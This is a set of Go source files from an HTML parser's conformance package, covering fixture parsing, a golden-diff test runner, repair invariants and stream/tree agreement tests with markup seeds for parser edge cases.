		{File: "x.dat", Data: "<td>a", Fragment: "tr", Document: "| <td>"},
	}
	out, err := ParseDat("x.dat", FormatDat(in))
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != 2 {
		t.Fatalf("got %d cases, want 2", len(out))
	}
	for i := range in {
		if out[i].Data != in[i].Data || out[i].Fragment != in[i].Fragment ||
			out[i].Document != in[i].Document ||
			strings.Join(out[i].Errors, ",") != strings.Join(in[i].Errors, ",") {
			t.Errorf("case %d: round trip %+v -> %+v", i, in[i], out[i])
		}
	}
}

func TestNormalizeDump(t *testing.T) {
	in := "| <p>  \n\n|   \"x\"\t\n"
	if got, want := normalizeDump(in), "| <p>\n|   \"x\""; got != want {
		t.Errorf("normalizeDump = %q, want %q", got, want)
	}
}
