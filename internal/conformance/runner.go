package conformance

import (
	"encoding/json"
	"fmt"
	"path/filepath"
	"sort"
	"strings"

	"github.com/hvscan/hvscan/internal/htmlparse"
)

// Runner executes a fixture corpus against the parser and aggregates
// the differential-oracle verdicts. It is deliberately dumb: load
// cases, run each through the real parse pipeline, diff the observable
// (token stream or tree dump plus error-code list) byte-for-byte, and
// attribute every divergence to exactly one of pass / fail / skip.

// Outcome classifies one executed case.
type Outcome int

const (
	Pass Outcome = iota
	Fail
	Skip
)

func (o Outcome) String() string {
	switch o {
	case Pass:
		return "pass"
	case Fail:
		return "fail"
	case Skip:
		return "skip"
	}
	return "unknown"
}

// CaseResult is the verdict for one fixture case.
type CaseResult struct {
	ID      string
	Outcome Outcome
	// Detail is the diff for failures, the reason for skips, "" for passes.
	Detail string
}

// Report aggregates a corpus run.
type Report struct {
	Results  []CaseResult
	Coverage *Coverage
	// StaleSkips are skiplist entries that matched no fixture.
	StaleSkips []string
}

// Total returns the number of executed cases.
func (r *Report) Total() int { return len(r.Results) }

// Count returns how many cases had the given outcome.
func (r *Report) Count(o Outcome) int {
	n := 0
	for _, c := range r.Results {
		if c.Outcome == o {
			n++
		}
	}
	return n
}

// Failures returns the failing case results.
func (r *Report) Failures() []CaseResult {
	var out []CaseResult
	for _, c := range r.Results {
		if c.Outcome == Fail {
			out = append(out, c)
		}
	}
	return out
}

// Runner loads and executes fixture corpora.
type Runner struct {
	Skips *Skiplist
	// Update rewrites golden sections (#errors, #document, output,
	// errors) from observed behavior instead of diffing; cases whose
	// input the parser rejects outright still fail.
	Update bool

	report Report
}

// NewRunner returns a Runner with the given skiplist (nil means empty).
func NewRunner(skips *Skiplist) *Runner {
	if skips == nil {
		skips = &Skiplist{reasons: map[string]string{}, used: map[string]bool{}}
	}
	return &Runner{Skips: skips, report: Report{Coverage: NewCoverage()}}
}

// Report finalizes and returns the aggregated report.
func (r *Runner) Report() *Report {
	r.report.StaleSkips = r.Skips.Stale()
	sort.Strings(r.report.StaleSkips)
	return &r.report
}

// RunTreeDir executes every .dat file under dir. With Update set it
// returns the rewritten file contents keyed by path.
func (r *Runner) RunTreeDir(dir string) (updated map[string]string, err error) {
	files, err := globSorted(filepath.Join(dir, "*.dat"))
	if err != nil {
		return nil, err
	}
	updated = map[string]string{}
	for _, path := range files {
		cases, err := ParseDatFile(path)
		if err != nil {
			return nil, err
		}
		changed := false
		for i := range cases {
			if r.runTree(&cases[i]) {
				changed = true
			}
		}
		if r.Update && changed {
			updated[path] = FormatDat(cases)
		}
	}
	return updated, nil
}

// runTree executes one tree-construction case, recording the verdict.
// It reports whether the case's golden sections were rewritten.
func (r *Runner) runTree(c *TreeCase) bool {
	if reason, ok := r.Skips.Lookup(c.ID()); ok {
		r.record(c.ID(), Skip, reason)
		return false
	}
	var res *htmlparse.Result
	var err error
	if c.Fragment != "" {
		res, err = htmlparse.ParseFragmentReuse([]byte(c.Data), c.Fragment)
	} else {
		res, err = htmlparse.ParseReuse([]byte(c.Data))
	}
	if err != nil {
		r.record(c.ID(), Fail, fmt.Sprintf("parse rejected input: %v", err))
		return false
	}
	gotErrs := make([]string, len(res.Errors))
	for i, e := range res.Errors {
		gotErrs[i] = string(e.Code)
	}
	gotDump := htmlparse.DumpTree(res.Doc)
	if r.Update {
		c.Errors = gotErrs
		c.Document = strings.TrimSuffix(gotDump, "\n")
		r.report.Coverage.RecordNames(gotErrs)
		r.record(c.ID(), Pass, "")
		return true
	}
	var problems []string
	if d := diffStringSlices(c.Errors, gotErrs); d != "" {
		problems = append(problems, "error codes diverge:\n"+d)
	}
	if want, got := normalizeDump(c.Document), normalizeDump(gotDump); want != got {
		problems = append(problems,
			fmt.Sprintf("tree diverges:\n--- want ---\n%s\n--- got ---\n%s", want, got))
	}
	if len(problems) > 0 {
		r.record(c.ID(), Fail, strings.Join(problems, "\n"))
		return false
	}
	// The goldens agree; now hold the streaming checker to the same input.
	// Fixture cases must agree exactly — hazard or not — so every corpus
	// run re-earns the stream≡tree invariant alongside the tree goldens.
	if _, aerr := StreamTreeAgreement([]byte(c.Data)); aerr != nil {
		r.record(c.ID(), Fail, "stream/tree disagreement: "+aerr.Error())
		return false
	}
	r.report.Coverage.RecordNames(gotErrs)
	r.record(c.ID(), Pass, "")
	return false
}

// RunTokenDir executes every .test file under dir. With Update set it
// returns the rewritten file contents keyed by path.
func (r *Runner) RunTokenDir(dir string) (updated map[string]string, err error) {
	files, err := globSorted(filepath.Join(dir, "*.test"))
	if err != nil {
		return nil, err
	}
	updated = map[string]string{}
	for _, path := range files {
		cases, err := ParseTestFile(path)
		if err != nil {
			return nil, err
		}
		changed := false
		for i := range cases {
			if r.runToken(&cases[i]) {
				changed = true
			}
		}
		if r.Update && changed {
			content, err := FormatTestFile(cases)
			if err != nil {
				return nil, err
			}
			updated[path] = content
		}
	}
	return updated, nil
}

// runToken executes one tokenizer case, recording the verdict. It
// reports whether the case's golden sections were rewritten.
func (r *Runner) runToken(c *TokenCase) bool {
	if reason, ok := r.Skips.Lookup(c.ID(), c.BaseID()); ok {
		r.record(c.ID(), Skip, reason)
		return false
	}
	gotOut, gotErrs, err := RunTokenizer(c)
	if err != nil {
		r.record(c.ID(), Fail, fmt.Sprintf("tokenizer rejected input: %v", err))
		return false
	}
	record := func() {
		for _, e := range gotErrs {
			r.report.Coverage.RecordCode(htmlparse.ErrorCode(e.Code))
		}
	}
	if r.Update {
		c.Output = gotOut
		c.Errors = gotErrs
		record()
		r.record(c.ID(), Pass, "")
		return true
	}
	var problems []string
	tokDiff, err := diffTokens(c.Output, gotOut)
	if err != nil {
		r.record(c.ID(), Fail, err.Error())
		return false
	}
	if tokDiff != "" {
		problems = append(problems, tokDiff)
	}
	if d := diffErrors(c.Errors, gotErrs); d != "" {
		problems = append(problems, d)
	}
	if len(problems) > 0 {
		r.record(c.ID(), Fail, strings.Join(problems, "\n"))
		return false
	}
	record()
	r.record(c.ID(), Pass, "")
	return false
}

func (r *Runner) record(id string, o Outcome, detail string) {
	r.report.Results = append(r.report.Results, CaseResult{ID: id, Outcome: o, Detail: detail})
}

// diffStringSlices returns "" when equal, else a want/got listing.
func diffStringSlices(want, got []string) string {
	if len(want) == len(got) {
		same := true
		for i := range want {
			if want[i] != got[i] {
				same = false
				break
			}
		}
		if same {
			return ""
		}
	}
	return fmt.Sprintf("  want: %s\n  got:  %s", strings.Join(want, ", "), strings.Join(got, ", "))
}

// jsonCompact is a helper for tests constructing expected tuples.
func jsonCompact(v any) json.RawMessage {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}
