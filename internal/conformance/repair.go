package conformance

import (
	"bytes"
	"fmt"

	"github.com/hvscan/hvscan/internal/autofix"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/htmlparse"
)

// The repair invariants: properties the validated repair engine
// (internal/autofix) must satisfy for EVERY input, not just the golden
// fix corpus. They are the fix-side counterparts of the parser
// invariants above and run under the same seeded-table + fuzz regime:
//
//  1. FixIdempotence — Repair(Repair(x)) is a no-op: a verified repair's
//     output re-repairs to itself with zero applied fixes. This is what
//     makes `hvfix -w` safe to run twice.
//  2. FixMonotonicity — repair never increases any rule's violation
//     count, and a verified (non-Unfixable) repair drives every
//     strategy-covered rule to zero. An Unfixable result returns the
//     input byte for byte with no applied fixes.

// FixIdempotence checks Repair(Repair(x)) ≡ Repair(x). Inputs the
// repair engine rejects operationally (non-UTF-8, depth caps) report
// skipped=true; the repaired output of an accepted input must itself be
// accepted, so a second-pass error is a verdict, not a skip.
func FixIdempotence(input []byte) (skipped bool, err error) {
	r1, rerr := autofix.Repair(input)
	if rerr != nil {
		return true, nil // outside the engine's operational domain
	}
	r2, rerr := autofix.Repair(r1.Output)
	if rerr != nil {
		return false, fmt.Errorf("second repair of %q left the engine's domain: %v", input, rerr)
	}
	if !bytes.Equal(r2.Output, r1.Output) {
		return false, fmt.Errorf("repair of %q is not idempotent:\n pass1 %q\n pass2 %q",
			input, r1.Output, r2.Output)
	}
	if len(r2.Applied) != 0 {
		return false, fmt.Errorf("second repair of %q applied %d fix(es): %v",
			input, len(r2.Applied), r2.Applied)
	}
	if (len(r2.Unfixable) > 0) != (len(r1.Unfixable) > 0) {
		return false, fmt.Errorf("repair verdict of %q flipped between passes:\n pass1 %v\n pass2 %v",
			input, r1.Unfixable, r2.Unfixable)
	}
	return false, nil
}

// FixMonotonicity checks that repair never makes a document worse: no
// rule's hit count may exceed the input's, a verified repair leaves
// every strategy-covered rule at zero, and an Unfixable repair returns
// the input untouched with no applied fixes.
func FixMonotonicity(input []byte) (skipped bool, err error) {
	res, perr := htmlparse.ParseReuse(input)
	if perr != nil {
		return true, nil // outside the checker's domain
	}
	checker := core.NewChecker()
	before := checker.CheckParsed(&core.Page{Result: res})
	r, rerr := autofix.Repair(input)
	if rerr != nil {
		return false, fmt.Errorf("parseable input %q was rejected by Repair: %v", input, rerr)
	}
	if len(r.Unfixable) > 0 {
		if !bytes.Equal(r.Output, input) {
			return false, fmt.Errorf("unfixable repair of %q did not return the input:\n got %q",
				input, r.Output)
		}
		if len(r.Applied) != 0 {
			return false, fmt.Errorf("unfixable repair of %q reported applied fixes: %v",
				input, r.Applied)
		}
		return false, nil
	}
	outRes, perr := htmlparse.ParseReuse(r.Output)
	if perr != nil {
		return false, fmt.Errorf("verified repair of %q is not parseable: %v", input, perr)
	}
	after := checker.CheckParsed(&core.Page{Result: outRes})
	for _, id := range autofix.StrategyRuleIDs() {
		if after.RuleHits[id] > 0 {
			return false, fmt.Errorf("strategy-covered rule %s survives a verified repair of %q (%d hit(s))",
				id, input, after.RuleHits[id])
		}
	}
	for id, n := range after.RuleHits {
		if n > before.RuleHits[id] {
			return false, fmt.Errorf("repair increased rule hits for %q:\n%s",
				input, diffRuleHits(before.RuleHits, after.RuleHits))
		}
	}
	return false, nil
}
