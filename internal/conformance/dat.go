// Package conformance is the conformance engine for internal/htmlparse:
// a dependency-free runner for html5lib-tests-style fixture corpora
// (.dat tree-construction cases and .test JSON tokenizer cases), a
// skiplist with mandatory reasons, a per-ErrorCode coverage gate wired
// to the internal/core spec-coverage ledger, and a metamorphic layer of
// oracle-free parser invariants (metamorphic.go).
//
// The paper's entire measurement rests on the parser observing the same
// parse errors and tree corrections a spec-conformant browser parser
// would; this package is how that claim is continuously re-earned. Any
// parser hot-path change must keep `make conform` green.
package conformance

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// TreeCase is one tree-construction conformance case in the html5lib
// .dat format:
//
//	#data
//	<input markup>
//	#errors
//	error-code-name        (one spec error name per line; may be empty)
//	#document-fragment     (optional; context element for fragment cases)
//	div
//	#document
//	| <html>
//	|   <head>
//	...
//
// Unlike upstream html5lib (which counts anonymous errors), the #errors
// section holds WHATWG spec error names — the signal the violation
// rules consume — and the expected set is exact: the parse must produce
// exactly these codes, in input order. The #document section must match
// htmlparse.DumpTree byte-for-byte after per-line trailing-whitespace
// trimming.
type TreeCase struct {
	File     string // base name of the .dat file
	Line     int    // 1-based line of the case's #data marker
	Data     string
	Fragment string
	Errors   []string
	Document string
}

// ID returns the case's skiplist key, "file.dat:line".
func (c *TreeCase) ID() string { return fmt.Sprintf("%s:%d", c.File, c.Line) }

// ParseDatFile reads one .dat fixture file.
func ParseDatFile(path string) ([]TreeCase, error) {
	raw, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	return ParseDat(filepath.Base(path), string(raw))
}

// ParseDat parses .dat fixture content. file is used for case IDs only.
func ParseDat(file, content string) ([]TreeCase, error) {
	var cases []TreeCase
	var cur *TreeCase
	section := ""
	flush := func() error {
		if cur == nil {
			return nil
		}
		if cur.Data == "" {
			return fmt.Errorf("%s:%d: case has no #data content", file, cur.Line)
		}
		cur.Data = strings.TrimSuffix(cur.Data, "\n")
		cur.Document = strings.TrimSuffix(cur.Document, "\n")
		cases = append(cases, *cur)
		cur = nil
		return nil
	}
	for i, line := range strings.Split(content, "\n") {
		switch line {
		case "#data":
			if err := flush(); err != nil {
				return nil, err
			}
			cur = &TreeCase{File: file, Line: i + 1}
			section = "data"
		case "#errors":
			section = "errors"
		case "#document-fragment":
			section = "fragment"
		case "#document":
			section = "document"
		default:
			if cur == nil {
				if strings.TrimSpace(line) != "" && !strings.HasPrefix(line, "#") {
					return nil, fmt.Errorf("%s:%d: content outside a case: %q", file, i+1, line)
				}
				continue
			}
			switch section {
			case "data":
				cur.Data += line + "\n"
			case "errors":
				if s := strings.TrimSpace(line); s != "" {
					cur.Errors = append(cur.Errors, s)
				}
			case "fragment":
				if s := strings.TrimSpace(line); s != "" {
					cur.Fragment = s
				}
			case "document":
				if line != "" {
					cur.Document += line + "\n"
				}
			}
		}
	}
	if err := flush(); err != nil {
		return nil, err
	}
	return cases, nil
}

// FormatDat renders cases back into the .dat format, used by the
// -update golden regeneration of cmd/hvconform. Line numbers are not
// preserved; re-parse the output to learn the new ones.
func FormatDat(cases []TreeCase) string {
	var b strings.Builder
	for i, c := range cases {
		if i > 0 {
			b.WriteString("\n")
		}
		b.WriteString("#data\n")
		b.WriteString(c.Data + "\n")
		b.WriteString("#errors\n")
		for _, e := range c.Errors {
			b.WriteString(e + "\n")
		}
		if c.Fragment != "" {
			b.WriteString("#document-fragment\n")
			b.WriteString(c.Fragment + "\n")
		}
		b.WriteString("#document\n")
		if c.Document != "" {
			b.WriteString(c.Document + "\n")
		}
	}
	return b.String()
}

// normalizeDump trims trailing whitespace per line and drops blank
// lines, the comparison form for #document sections.
func normalizeDump(s string) string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		l = strings.TrimRight(l, " \t")
		if l != "" {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}

// globSorted returns the lexically sorted matches of pattern.
func globSorted(pattern string) ([]string, error) {
	files, err := filepath.Glob(pattern)
	if err != nil {
		return nil, err
	}
	sort.Strings(files)
	return files, nil
}
