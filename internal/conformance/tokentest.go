package conformance

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/hvscan/hvscan/internal/htmlparse"
)

// Tokenizer conformance cases in the html5lib-tests .test JSON format:
//
//	{"tests": [{
//	  "description": "...",
//	  "input": "<div id=x>",
//	  "output": [["StartTag", "div", {"id": "x"}]],
//	  "errors": [{"code": "missing-attribute-value", "line": 1, "col": 9}],
//	  "initialStates": ["Data state"],
//	  "lastStartTag": "...",
//	  "doubleEscaped": false
//	}]}
//
// Output entries: ["Character", data], ["StartTag", name, {attrs}] with
// an optional trailing true for self-closing, ["EndTag", name],
// ["Comment", data], ["DOCTYPE", name, publicID, systemID, correct].
// A test with N initialStates expands into N runnable cases. As in the
// upstream harness, the tokenizer runs without the tree builder's
// content-model feedback (AutoRaw off): raw-text states are entered via
// initialStates + lastStartTag, never by tag name.
//
// Deviations from upstream, documented: the input passes through the
// full input stream preprocessor first (so control-character /
// noncharacter stream errors appear in the expected error list), and a
// doctype's absent and empty public/system identifiers both serialize
// as null. Error line/col are compared only when the fixture provides
// them (cmd/hvconform -update always writes them).

// tokenTestFile is the on-disk JSON shape.
type tokenTestFile struct {
	Tests []tokenTestJSON `json:"tests"`
}

type tokenTestJSON struct {
	Description   string            `json:"description"`
	Input         string            `json:"input"`
	Output        []json.RawMessage `json:"output"`
	Errors        []ExpectedError   `json:"errors,omitempty"`
	InitialStates []string          `json:"initialStates,omitempty"`
	LastStartTag  string            `json:"lastStartTag,omitempty"`
	DoubleEscaped bool              `json:"doubleEscaped,omitempty"`
}

// ExpectedError is one entry of a .test case's "errors" list.
type ExpectedError struct {
	Code string `json:"code"`
	Line int    `json:"line,omitempty"`
	Col  int    `json:"col,omitempty"`
}

// TokenCase is one runnable tokenizer conformance case (a .test entry
// specialized to a single initial state).
type TokenCase struct {
	File         string
	Index        int // 0-based position in the file's tests array
	Description  string
	Input        string
	Output       []json.RawMessage
	Errors       []ExpectedError
	InitialState string
	LastStartTag string
}

// ID returns the case's skiplist key, "file.test:description@state".
// Skiplist entries may also target "file.test:description" to skip the
// case in every initial state.
func (c *TokenCase) ID() string {
	return fmt.Sprintf("%s:%s@%s", c.File, c.Description, c.InitialState)
}

// BaseID returns the state-independent skiplist key.
func (c *TokenCase) BaseID() string {
	return fmt.Sprintf("%s:%s", c.File, c.Description)
}

// ParseTestFile reads one .test fixture file, expanding each test into
// one TokenCase per initial state.
func ParseTestFile(path string) ([]TokenCase, error) {
	raw, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var f tokenTestFile
	if err := json.Unmarshal(raw, &f); err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	base := filepath.Base(path)
	var cases []TokenCase
	for i, t := range f.Tests {
		if t.Description == "" {
			return nil, fmt.Errorf("%s: test %d has no description (needed for skiplist keys)", path, i)
		}
		input := t.Input
		output := t.Output
		if t.DoubleEscaped {
			input = unescapeDouble(input)
			output, err = unescapeOutputs(output)
			if err != nil {
				return nil, fmt.Errorf("%s: test %q: %w", path, t.Description, err)
			}
		}
		states := t.InitialStates
		if len(states) == 0 {
			states = []string{"Data state"}
		}
		for _, st := range states {
			cases = append(cases, TokenCase{
				File: base, Index: i, Description: t.Description,
				Input: input, Output: output, Errors: t.Errors,
				InitialState: st, LastStartTag: t.LastStartTag,
			})
		}
	}
	return cases, nil
}

// unescapeDouble resolves literal \uXXXX sequences (the doubleEscaped
// convention for inputs that JSON cannot carry directly). Surrogate
// pairs combine; lone surrogates become U+FFFD, matching what the Go
// string type can represent.
func unescapeDouble(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); {
		if s[i] == '\\' && i+5 < len(s) && s[i+1] == 'u' {
			hi, err := strconv.ParseUint(s[i+2:i+6], 16, 32)
			if err == nil {
				i += 6
				r := rune(hi)
				if utf16.IsSurrogate(r) && i+5 < len(s) && s[i] == '\\' && s[i+1] == 'u' {
					if lo, err2 := strconv.ParseUint(s[i+2:i+6], 16, 32); err2 == nil {
						if d := utf16.DecodeRune(r, rune(lo)); d != utf8.RuneError {
							b.WriteRune(d)
							i += 6
							continue
						}
					}
				}
				if utf16.IsSurrogate(r) {
					r = utf8.RuneError
				}
				b.WriteRune(r)
				continue
			}
		}
		b.WriteByte(s[i])
		i++
	}
	return b.String()
}

// unescapeOutputs applies unescapeDouble to the string payloads of
// expected token tuples.
func unescapeOutputs(outs []json.RawMessage) ([]json.RawMessage, error) {
	res := make([]json.RawMessage, len(outs))
	for i, raw := range outs {
		var tup []any
		if err := json.Unmarshal(raw, &tup); err != nil {
			return nil, err
		}
		for j, v := range tup {
			switch x := v.(type) {
			case string:
				if j > 0 { // index 0 is the token kind
					tup[j] = unescapeDouble(x)
				}
			case map[string]any:
				m := make(map[string]any, len(x))
				for k, av := range x {
					if s, ok := av.(string); ok {
						m[unescapeDouble(k)] = unescapeDouble(s)
					} else {
						m[k] = av
					}
				}
				tup[j] = m
			}
		}
		enc, err := json.Marshal(tup)
		if err != nil {
			return nil, err
		}
		res[i] = enc
	}
	return res, nil
}

// RunTokenizer executes the tokenizer over the case's input and returns
// the observed token tuples (in the .test output shape) and errors.
// Parse failures (non-UTF-8 input) surface as an error.
func RunTokenizer(c *TokenCase) (outs []json.RawMessage, errs []ExpectedError, err error) {
	pre, err := htmlparse.Preprocess([]byte(c.Input))
	if err != nil {
		return nil, nil, err
	}
	z := htmlparse.NewTokenizer(pre.Input)
	z.AutoRaw = false
	if c.InitialState != "" && !z.SetTestState(c.InitialState, c.LastStartTag) {
		return nil, nil, fmt.Errorf("unknown initial state %q", c.InitialState)
	}
	var toks []htmlparse.Token
	for {
		t := z.Next()
		if t.Type == htmlparse.EOFToken {
			break
		}
		toks = append(toks, t)
	}
	outs, err = encodeTokens(toks)
	if err != nil {
		return nil, nil, err
	}
	for _, e := range append(append([]htmlparse.ParseError(nil), pre.Errors...), z.Errors()...) {
		errs = append(errs, ExpectedError{Code: string(e.Code), Line: e.Pos.Line, Col: e.Pos.Col})
	}
	return outs, errs, nil
}

// encodeTokens renders tokens as .test output tuples, coalescing
// adjacent character tokens as the html5lib harness does.
func encodeTokens(toks []htmlparse.Token) ([]json.RawMessage, error) {
	var outs []json.RawMessage
	var text strings.Builder
	flush := func() error {
		if text.Len() == 0 {
			return nil
		}
		enc, err := json.Marshal([]any{"Character", text.String()})
		if err != nil {
			return err
		}
		outs = append(outs, enc)
		text.Reset()
		return nil
	}
	for _, t := range toks {
		if t.Type == htmlparse.CharacterToken {
			text.WriteString(t.Data)
			continue
		}
		if err := flush(); err != nil {
			return nil, err
		}
		var tup []any
		switch t.Type {
		case htmlparse.StartTagToken:
			attrs := map[string]string{}
			for _, a := range t.Attr {
				if !a.Duplicate {
					attrs[a.Name] = a.Value
				}
			}
			tup = []any{"StartTag", t.Data, attrs}
			if t.SelfClosing {
				tup = append(tup, true)
			}
		case htmlparse.EndTagToken:
			tup = []any{"EndTag", t.Data}
		case htmlparse.CommentToken:
			tup = []any{"Comment", t.Data}
		case htmlparse.DoctypeToken:
			name := any(t.Data)
			if t.Data == "" {
				name = nil
			}
			pub, sys := any(t.PublicID), any(t.SystemID)
			if t.PublicID == "" {
				pub = nil
			}
			if t.SystemID == "" {
				sys = nil
			}
			tup = []any{"DOCTYPE", name, pub, sys, !t.ForceQuirks}
		default:
			continue
		}
		enc, err := json.Marshal(tup)
		if err != nil {
			return nil, err
		}
		outs = append(outs, enc)
	}
	if err := flush(); err != nil {
		return nil, err
	}
	return outs, nil
}

// canonicalTuple renders one output tuple in a stable comparison form
// (attribute maps sorted by name).
func canonicalTuple(raw json.RawMessage) (string, error) {
	var tup []any
	if err := json.Unmarshal(raw, &tup); err != nil {
		return "", err
	}
	var b strings.Builder
	for i, v := range tup {
		if i > 0 {
			b.WriteString(" ")
		}
		switch x := v.(type) {
		case map[string]any:
			keys := make([]string, 0, len(x))
			for k := range x {
				keys = append(keys, k)
			}
			sort.Strings(keys)
			b.WriteString("{")
			for j, k := range keys {
				if j > 0 {
					b.WriteString(" ")
				}
				fmt.Fprintf(&b, "%q=%q", k, x[k])
			}
			b.WriteString("}")
		default:
			fmt.Fprintf(&b, "%#v", v)
		}
	}
	return b.String(), nil
}

// diffTokens compares expected and observed tuples, returning "" when
// they agree and a human-readable diff otherwise.
func diffTokens(want, got []json.RawMessage) (string, error) {
	w := make([]string, len(want))
	g := make([]string, len(got))
	for i, raw := range want {
		s, err := canonicalTuple(raw)
		if err != nil {
			return "", fmt.Errorf("bad expected tuple %s: %w", raw, err)
		}
		w[i] = s
	}
	for i, raw := range got {
		s, err := canonicalTuple(raw)
		if err != nil {
			return "", err
		}
		g[i] = s
	}
	if len(w) == len(g) {
		same := true
		for i := range w {
			if w[i] != g[i] {
				same = false
				break
			}
		}
		if same {
			return "", nil
		}
	}
	return fmt.Sprintf("--- want tokens ---\n%s\n--- got tokens ---\n%s",
		strings.Join(w, "\n"), strings.Join(g, "\n")), nil
}

// diffErrors compares expected and observed error lists. Expected
// entries without line/col match on code alone; entries with positions
// must match exactly. Order is significant.
func diffErrors(want, got []ExpectedError) string {
	ok := len(want) == len(got)
	if ok {
		for i := range want {
			if want[i].Code != got[i].Code {
				ok = false
				break
			}
			if (want[i].Line != 0 || want[i].Col != 0) &&
				(want[i].Line != got[i].Line || want[i].Col != got[i].Col) {
				ok = false
				break
			}
		}
	}
	if ok {
		return ""
	}
	fmtList := func(es []ExpectedError) string {
		parts := make([]string, len(es))
		for i, e := range es {
			parts[i] = fmt.Sprintf("%s@%d:%d", e.Code, e.Line, e.Col)
		}
		return strings.Join(parts, ", ")
	}
	return fmt.Sprintf("--- want errors ---\n%s\n--- got errors ---\n%s", fmtList(want), fmtList(got))
}

// FormatTestFile renders tests back into .test JSON, used by -update.
// Cases are regrouped by file index; initialStates and lastStartTag are
// preserved, doubleEscaped is normalized away. The format carries one
// output per test, so a test whose runs diverge across initial states
// cannot be represented — that is an error, and the author must split
// it into per-state tests.
func FormatTestFile(cases []TokenCase) (string, error) {
	var file tokenTestFile
	byIndex := map[int]*tokenTestJSON{}
	var order []int
	for _, c := range cases {
		t, ok := byIndex[c.Index]
		if !ok {
			t = &tokenTestJSON{
				Description: c.Description, Input: c.Input,
				Output: c.Output, Errors: c.Errors, LastStartTag: c.LastStartTag,
			}
			byIndex[c.Index] = t
			order = append(order, c.Index)
		} else if !sameGolden(t, &c) {
			return "", fmt.Errorf("%s: test %q produces different output per initial state; split it into one test per state", c.File, c.Description)
		}
		if c.InitialState != "Data state" || len(t.InitialStates) > 0 {
			t.InitialStates = append(t.InitialStates, c.InitialState)
		}
	}
	sort.Ints(order)
	for _, i := range order {
		file.Tests = append(file.Tests, *byIndex[i])
	}
	enc, err := json.MarshalIndent(&file, "", "  ")
	if err != nil {
		return "", err
	}
	return string(enc) + "\n", nil
}

// sameGolden reports whether a case's golden sections match the test
// entry already accumulated for its file index.
func sameGolden(t *tokenTestJSON, c *TokenCase) bool {
	if len(t.Output) != len(c.Output) || len(t.Errors) != len(c.Errors) {
		return false
	}
	for i := range t.Output {
		if string(t.Output[i]) != string(c.Output[i]) {
			return false
		}
	}
	for i := range t.Errors {
		if t.Errors[i] != c.Errors[i] {
			return false
		}
	}
	return true
}
