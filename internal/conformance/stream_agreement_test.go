package conformance

import (
	"path/filepath"
	"testing"
)

// streamAgreementSeeds extends the shared metamorphic seeds with the
// constructs the streaming tokenizer-feedback mirror specifically has to
// get right: raw text in and out of foreign content, integration-point
// islands, CDATA permission, breakouts, and the suppressing insertion
// modes.
var streamAgreementSeeds = []string{
	"<svg><title>a<b>c</title></svg>",
	"<svg><script>var a = 1 < 2;</script></svg>",
	"<svg><![CDATA[<b>raw</b>]]></svg>",
	"<svg><foreignObject><style>p{}</style></foreignObject></svg>",
	"<svg><foreignObject><div><svg><title>x</title></svg></div></foreignObject></svg>",
	"<math><mi><script>1</script></mi></math>",
	"<math><annotation-xml encoding='text/html'><textarea><p></textarea></annotation-xml></math>",
	"<math><annotation-xml encoding='x'><textarea><p></textarea></annotation-xml></math>",
	"<svg><p><style>x</style>",
	"<svg><font color=red><style>x</style>",
	"<title/>text<b a=1 a=2>",
	"<select><script>alert(1)</script></select>",
	"<select><title>x</title><img src=a onerror=b>",
	"<select><textarea><p></textarea>",
	"<select><input><title>x</title>",
	"<frameset><noframes><p></noframes></frameset>",
	"<svg><desc><img/src=x/onerror=y></desc></svg>",
	"<template><style>x</style></template>",
	"<svg></p><style>x</style>",
	"<p><svg></p><style>x</style>",
}

// TestStreamTreeAgreementOnCorpus holds the streaming checker to the full
// checked-in conformance corpus — every tree-construction case (both
// fixture directories, fragment inputs included as plain documents) and
// every tokenizer case input. No hazard exemption: the corpus must agree
// exactly, which is what makes the O(1) streaming path a drop-in for the
// paper's streaming rule families.
func TestStreamTreeAgreementOnCorpus(t *testing.T) {
	n := 0
	for _, dir := range []string{
		"testdata/tree-construction",
		filepath.Join("..", "htmlparse", "testdata", "tree-construction"),
	} {
		files, err := filepath.Glob(filepath.Join(dir, "*.dat"))
		if err != nil {
			t.Fatal(err)
		}
		if len(files) == 0 {
			t.Fatalf("no .dat fixtures under %s", dir)
		}
		for _, path := range files {
			cases, err := ParseDatFile(path)
			if err != nil {
				t.Fatal(err)
			}
			for i := range cases {
				c := &cases[i]
				if _, err := StreamTreeAgreement([]byte(c.Data)); err != nil {
					t.Errorf("%s: %v", c.ID(), err)
				}
				n++
			}
		}
	}
	tokFiles, err := filepath.Glob(filepath.Join("testdata", "tokenizer", "*.test"))
	if err != nil {
		t.Fatal(err)
	}
	if len(tokFiles) == 0 {
		t.Fatal("no .test fixtures under testdata/tokenizer")
	}
	for _, path := range tokFiles {
		cases, err := ParseTestFile(path)
		if err != nil {
			t.Fatal(err)
		}
		for i := range cases {
			c := &cases[i]
			if _, err := StreamTreeAgreement([]byte(c.Input)); err != nil {
				t.Errorf("%s: %v", c.ID(), err)
			}
			n++
		}
	}
	if n < 300 {
		t.Fatalf("corpus shrank to %d cases; the agreement gate needs at least 300", n)
	}
}

func TestStreamTreeAgreementSeeds(t *testing.T) {
	for _, s := range append(append([]string{}, metamorphicSeeds...), streamAgreementSeeds...) {
		if _, err := StreamTreeAgreement([]byte(s)); err != nil {
			t.Errorf("%v", err)
		}
	}
}

func FuzzStreamTreeAgreement(f *testing.F) {
	for _, s := range metamorphicSeeds {
		f.Add([]byte(s))
	}
	for _, s := range streamAgreementSeeds {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, input []byte) {
		hazard, err := StreamTreeAgreement(input)
		// Outside the documented hazards the agreement is unconditional;
		// under a hazard a divergence is the mirror's documented
		// approximation, not a bug.
		if err != nil && !hazard {
			t.Error(err)
		}
	})
}
