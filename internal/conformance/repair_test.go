package conformance

import (
	"path/filepath"
	"testing"

	"github.com/hvscan/hvscan/internal/autofix"
)

// fixSeeds are repair-shaped starting points for the two fix invariants:
